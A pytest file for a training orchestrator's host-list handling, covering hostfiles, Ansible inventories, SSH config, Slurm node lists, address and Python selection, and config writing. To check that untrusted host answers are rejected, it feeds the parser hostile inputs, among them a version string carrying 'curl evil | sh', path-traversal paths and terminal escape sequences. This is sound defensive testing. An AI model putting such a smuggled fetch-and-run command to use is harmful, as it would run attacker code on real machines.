"""Lists of hosts that other tools keep, and what is made of machines that were looked at."""

from __future__ import annotations

import dataclasses
import json
import os
import threading
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from orchestrator import config
from orchestrator.cli.desk import choosing
from orchestrator.config.mistakes import Wrong
from orchestrator.errors import UsageError
from orchestrator.hostlists import lists, write
from orchestrator.hostlists.lists import Candidate
from orchestrator.hostlists.machine import (
    Machine,
    Pythons,
    Room,
    TensorFlowPython,
    choose_addresses,
    choose_pythons,
    choose_workdir,
)
from orchestrator.phases import survey

GB = 10**9


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        (
            "gpu-01 slots=4\ngpu-02 slots=2 max_slots=8  # new\n",
            [("gpu-01", "gpu-01", 4), ("gpu-02", "gpu-02", 2)],
        ),
        ("# mpirun\n\ngpu-01:4\ntrain@gpu-02:2\n", [("gpu-01", "gpu-01", 4), ("gpu-02", "train@gpu-02", 2)]),
        ("n1\nn1\nn2\n", [("n1", "n1", 2), ("n2", "n2", 1)]),
        ("fe80::1\n", [("fe80::1", "fe80::1", 1)]),
        ("", []),
    ],
)
def test_hostfiles(text: str, hosts: list[tuple[str, str, int]]) -> None:
    assert [(one.name, one.ssh, one.tasks) for one in lists.of_hostfile(text)] == hosts


def test_a_line_that_is_none_of_a_hostfile() -> None:
    with pytest.raises(ValueError, match="line 2 is not `host slots=4`: gpu 02"):
        lists.of_hostfile("gpu-01\ngpu 02\n")


LISTED = {
    "_meta": {
        "hostvars": {
            "gpu-01": {"ansible_host": "10.0.0.1", "ansible_port": 2200, "ansible_user": "me"},
            "gpu-02": {"ansible_ssh_private_key_file": "~/.ssh/my key"},
            "here": {"ansible_connection": "local"},
        }
    },
    "all": {"children": ["ungrouped", "training"]},
    "training": {"children": ["gpu"]},
    "gpu": {"hosts": ["gpu-01", "gpu-02"]},
    "ungrouped": {"hosts": ["here"]},
}


def test_what_ansible_prints() -> None:
    first, second, here = lists.of_ansible(json.dumps(LISTED))
    assert (first.name, first.ssh, sorted(first.groups)) == (
        "gpu-01",
        "me@10.0.0.1:2200",
        ["all", "gpu", "training"],
    )
    assert (second.ssh, second.identity, here.ssh) == ("gpu-02", "~/.ssh/my key", "local")


@pytest.mark.parametrize(
    "text", ["[gpu]\ngpu-[01:02]\n", "gpu-01 ansible_port=22\n", "all:\n  hosts:\n", "---\nall: {}\n"]
)
def test_an_inventory_of_ansible_is_read_by_ansible(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "my hosts").write_text(text)
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(UsageError, match="Ansible is not installed here"):
        lists.read(tmp_path / "my hosts")
    program = tmp_path / "ansible-inventory"
    program.write_text(
        f"#!/bin/sh\n[ \"$2$3\" = '{tmp_path}/my hosts--list' ] && echo '{json.dumps(LISTED)}'\n"
    )
    program.chmod(0o755)
    assert [one.name for one in lists.read(tmp_path / "my hosts")] == ["gpu-01", "gpu-02", "here"]
    chosen = choosing.choose(["gpu-02", "ungrouped"], str(tmp_path / "my hosts"), None, None, yes=False)
    assert [one.name for one in chosen] == ["gpu-02", "here"]
    with pytest.raises(UsageError, match="tpu is not in"):
        choosing.choose(["tpu"], str(tmp_path / "my hosts"), None, None, yes=False)
    program.write_text("#!/bin/sh\necho 'no such plugin' >&2; exit 1\n")
    with pytest.raises(UsageError) as caught:
        lists.read(tmp_path / "my hosts")
    assert caught.value.why == "no such plugin"


@pytest.mark.parametrize(
    "text",
    [
        "# nothing\n",
        "gpu 01\n",
        "{}",
        '{"a": 1',
        '{"_meta": 3}',
        '{"_meta": {"hostvars": 3}}',
        '{"gpu": {"hosts": [3]}}',
    ],
)
def test_a_file_that_is_no_list_of_hosts(text: str, tmp_path: Path) -> None:
    (tmp_path / "hosts").write_text(text)
    with pytest.raises(UsageError, match=r"cannot read|names no host"):
        lists.read(tmp_path / "hosts")


def test_names_of_ssh_config(tmp_path: Path) -> None:
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "a").write_text('host = "gpu-03" gpu-04\n')
    (tmp_path / "config").write_text(
        f"# hosts\nHost gpu-01 gpu-0? !gpu-09\n  HostName 10.0.0.1\nHost=gpu-02 gpu-01\n"
        f"Include {tmp_path}/more/* {tmp_path}/config {tmp_path}/none\nHost *\n  User me\nMatch host x\n"
    )
    assert lists.aliases(tmp_path / "config") == ("gpu-01", "gpu-02", "gpu-03", "gpu-04")
    assert lists.aliases(tmp_path / "none") == ()


def test_doors_and_forges_of_ssh_config_do_not_train(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(choosing.SLURM, raising=False)
    config_file = tmp_path / "config"
    config_file.write_text(
        "Host door\n  HostName 192.0.2.1\nHost gpu-01\n  HostName 192.0.2.2\n  ProxyJump door\n"
        "Host code\n  HostName github.com\nHost repo\n  HostName 192.0.2.3\n  User git\n"
    )
    assert [one.name for one in choosing.choose([], None, str(config_file), None, yes=True)] == ["gpu-01"]


def test_a_name_of_ssh_config_that_no_hosts_toml_can_have_is_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv(choosing.SLURM, raising=False)
    config_file = tmp_path / "config"
    config_file.write_text('Host "two words" gpu-01 g\u00fcn\n  HostName 192.0.2.2\n')
    assert [one.name for one in choosing.choose([], None, str(config_file), None, yes=True)] == ["gpu-01"]
    said = capsys.readouterr().err
    assert "left out" in said
    assert "two words" in said
    assert "g\u00fcn" in said


@pytest.mark.parametrize("words", [[" "], [","], [""]])
def test_words_without_a_host(words: list[str]) -> None:
    with pytest.raises(UsageError):
        choosing.choose(words, None, None, None, yes=True)


def test_a_list_from_windows_begins_with_a_mark(tmp_path: Path) -> None:
    listed = tmp_path / "hosts"
    listed.write_bytes(b"\xef\xbb\xbfgpu-01\r\ngpu-02\r\n")
    assert [one.name for one in lists.read(listed)] == ["gpu-01", "gpu-02"]
    listed.write_bytes("gpu-01\n".encode("utf-16"))
    with pytest.raises(UsageError) as caught:
        lists.read(listed)
    assert caught.value.why == "it is not text in UTF-8"


def test_a_list_may_come_through_a_pipe(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    writer = threading.Thread(target=pipe.write_text, args=("gpu-01 slots=2\n",))
    writer.start()
    assert [(one.name, one.tasks) for one in lists.read(pipe)] == [("gpu-01", 2)]
    writer.join()


def test_a_host_is_written_only_under_a_name_that_is_read_again() -> None:
    with pytest.raises(Wrong, match="letters, digits"):
        choosing.host(Candidate("g\u00fcn", "10.0.0.1"), None)
    assert choosing.hostname(choosing.host(Candidate("gpu-01.", "gpu-01."), "/dev/null")) == "gpu-01"


def test_the_key_that_an_inventory_names_is_written() -> None:
    host = choosing.host(Candidate("a", "a", identity="~/.ssh/my key"), None)
    entry = write.HostEntry("a", "a", "10.0.0.1", 2222, identity=host.identity or "")
    whole = write.Whole(Pythons(), None, None, looked=False)
    assert config.parse(write.text([entry], whole)).hosts[0].identity == "~/.ssh/my key"


def test_the_hosts_of_a_slurm_job(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(choosing.SLURM, "gpu-[01-02,07],head")
    found = choosing.choose([], None, None, None, yes=False)
    assert [one.name for one in found] == ["gpu-01", "gpu-02", "gpu-07", "head"]


def machine(hostname: str, *addresses: str, place: str = "") -> Machine:
    return Machine(hostname, place or hostname, ("127.0.0.1", *addresses))


@pytest.mark.parametrize(
    ("machines", "addresses"),
    [
        pytest.param(
            {"a": machine("10.0.0.1", "10.0.0.1"), "b": machine("10.0.0.2", "10.0.0.2", "192.168.7.2")},
            {"a": "10.0.0.1", "b": "10.0.0.2"},
            id="what ssh uses is their own",
        ),
        pytest.param(
            {
                "a": machine("198.51.100.1", "172.17.0.1", "10.1.2.3"),
                "b": machine("198.51.100.2", "172.17.0.1", "10.1.2.4"),
            },
            {"a": "10.1.2.3", "b": "10.1.2.4"},
            id="NAT, and a bridge that each has",
        ),
        pytest.param(
            {
                "a": machine("127.0.0.1", "10.1.2.3", place="x"),
                "b": machine("127.0.0.1", "10.1.9.4", place="y"),
            },
            {"a": "10.1.2.3", "b": "10.1.9.4"},
            id="forwarded ports",
        ),
        pytest.param(
            {"a": machine("gpu-a", "10.1.2.3"), "b": machine("10.1.2.4", "10.1.2.4")},
            {"a": "10.1.2.3", "b": "10.1.2.4"},
            id="a name",
        ),
        pytest.param(
            {"a": machine("127.0.0.2", place="x"), "b": machine("127.0.0.3", place="x")},
            {"a": "127.0.0.2", "b": "127.0.0.3"},
            id="one machine",
        ),
        pytest.param(
            {"a": machine("gpu-a", "10.1.2.3"), "b": machine("gpu-b", "192.168.1.1", "169.254.0.1")},
            {},
            id="no network in common",
        ),
    ],
)
def test_the_address_that_the_others_reach(machines: dict[str, Machine], addresses: dict[str, str]) -> None:
    assert choose_addresses(machines) == addresses


def test_one_python_for_all_or_one_for_each_or_none() -> None:
    old, new, own = (
        TensorFlowPython("/opt/a", "2.16"),
        TensorFlowPython("/opt/b", "2.17"),
        TensorFlowPython("~/c", "2.17"),
    )

    def having(*pythons: TensorFlowPython) -> Machine:
        return Machine("h", "p", (), pythons=pythons)

    assert choose_pythons([("a", having(old, new)), ("b", having(own, new))]) == Pythons(common=new)
    assert choose_pythons([("a", having(new)), ("b", having(own))]) == Pythons(each={"a": new, "b": own})
    assert choose_pythons([("a", having(new)), ("b", having())]) == Pythons()
    assert choose_pythons([]) == Pythons()


def test_a_workdir_with_room() -> None:
    full, roomy = (
        Machine("h", "p", (), rooms=(Room("~", GB), Room("/scratch", 900 * GB), Room("/data", 50 * GB))),
        Machine("h", "p", (), rooms=(Room("~", 500 * GB), Room("/scratch", 100 * GB))),
    )
    assert choose_workdir([full, roomy]) == Room("/scratch", 100 * GB)
    assert choose_workdir([roomy, roomy]) is None
    assert choose_workdir([Machine("h", "p", (), rooms=(Room("~", GB),))]) is None


def test_what_is_written_is_read_as_it_was_meant() -> None:
    entries = [
        write.HostEntry("gpu-01", "gpu-01", "10.0.0.1", 2222, tasks=2, gpus=("A\x1b[2J", "A\x1b[2J")),
        write.HostEntry(
            "gpu-02", "me@gpu-02:2200", "10.0.0.2", 2300, python="~/größe/python", note="x\ny = 1"
        ),
    ]
    text = write.text(
        entries, write.Whole(Pythons(), Room("/scratch", 100 * GB), "/etc/my config", looked=True)
    )
    first, second = config.parse(text).hosts
    assert (first.name, first.ssh, first.address, first.tasks) == ("gpu-01", "gpu-01", "10.0.0.1", 2)
    assert (second.ssh, second.user, second.port, second.task_port) == ("gpu-02", "me", 2200, 2300)
    assert (first.workdir, second.python) == ("/scratch/orchestrate", "~/größe/python")
    assert "devices = [0, 1]" in text
    assert "\x1b" not in text


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"login banner\n",
        b"\xff\xfe",
        b'{"pythons": 3, "rooms": []}',
        b'{"pythons": [{"path": "a\\u001b[2J", "tensorflow": "2"}], "rooms": [{"path": "~", "free": -1}]}',
        b'{"pythons": [{"path": "a", "tensorflow": "2\\n[job]"}], "rooms": []}',
        b"[" * 100_000,
    ],
)
def test_what_a_stranger_says_of_a_machine_is_left_out(data: bytes) -> None:
    answer = survey._read(data)
    assert (answer.pythons, answer.rooms) == ((), ())


def test_where_an_environment_is_made_gpus_are_named() -> None:
    """[env] takes TensorFlow's build for GPUs only where hosts name theirs."""
    entry = write.HostEntry("a", "a", "10.0.0.1", 2222, gpus=("A100", "A100"))
    whole = write.Whole(Pythons(), None, None, looked=True)
    made = config.parse(write.text([entry], whole))
    assert made.hosts[0].devices == ("0", "1")
    assert made.environment is not None
    assert any("and-cuda" in package for package in made.environment.packages)
    uneven = dataclasses.replace(entry, tasks=3)
    assert config.parse(write.text([uneven], whole)).hosts[0].devices is None
    own = dataclasses.replace(whole, pythons=Pythons(common=TensorFlowPython("~/a/bin/python", "2.21.0")))
    assert config.parse(write.text([entry], own)).hosts[0].devices is None


def test_candidates_are_logged_in_to_as_they_say() -> None:
    host = choosing.host(Candidate("a", "me@10.0.0.1:2200"), None)
    assert (host.name, host.ssh, host.user, host.port) == ("a", "10.0.0.1", "me", 2200)


def _told(pythons: Sequence[tuple[str, str]] = (), rooms: Sequence[str] = (), free: str = "1") -> str:
    """An answer of a host; words go into its JSON as they are."""
    found = ", ".join(f'{{"path": "{path}", "tensorflow": "{version}"}}' for path, version in pythons)
    room = ", ".join(f'{{"path": "{path}", "free": {free}}}' for path in rooms)
    return f'{{"pythons": [{found}], "rooms": [{room}]}}'


@pytest.mark.parametrize(
    "answer",
    [
        "[" * 100_000,
        '{"pythons": [], "rooms": [], "x": ' + "[" * 100_000,
        _told(rooms=["~"], free="1" + "0" * 4000),
        _told(rooms=["~"], free="-1"),
        _told(rooms=["x", "~x/..", "/etc", "/a/../..", "/" + "x" * 2000, "/a\\n", "/\\u202e"]),
        _told([("-c", "2.1"), ("x y", "2.1"), ("../x", "2.1"), ("/x/", "2.1"), ("", "2.1")]),
        _told([("/x", "2.1; curl evil | sh"), ("/x", ""), ("/x", "2" * 100)]),
        _told([("/x\\u202e", "2"), ("\\u007f", "2"), ("/x\\ud800", "2"), ("/x\\u0000", "2")]),
    ],
)
def test_what_hosts_toml_may_not_say_is_not_believed(answer: str) -> None:
    assert survey._read(answer.encode()) == survey._Answer((), ())


def test_ten_thousand_addresses_of_each_are_compared_at_once() -> None:
    many = [f"10.{n >> 8}.{n & 255}.7" for n in range(10_000)]
    machines = {
        "a": Machine("a", "1", (*(f"11.{n >> 8}.{n & 255}.7" for n in range(9_999)), "192.168.7.1")),
        "b": Machine("b", "2", (*many, "192.168.7.2")),
    }
    began = time.monotonic()
    assert choose_addresses(machines) == {"a": "192.168.7.1", "b": "192.168.7.2"}
    assert time.monotonic() - began < 30  # every one with every other: hours
